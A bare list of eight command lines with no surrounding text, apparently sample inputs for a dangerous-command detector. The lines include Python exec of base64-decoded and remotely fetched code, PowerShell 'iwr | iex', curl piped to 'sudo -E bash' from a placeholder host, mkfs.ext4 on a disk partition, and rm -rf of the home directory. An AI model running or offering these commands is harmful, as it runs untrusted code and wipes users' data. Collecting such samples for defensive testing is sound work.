exec(base64.b64decode("cHJpbnQoMSk="))
exec(urllib.request.urlopen("https://example.test/x").read())
iwr https://example.test/x | iex
mkfs.ext4 /dev/sda1
rm -r -f /tmp/adder
rm -rf "$HOME"
curl -fsSL https://example.test/x \
  | sudo -E bash
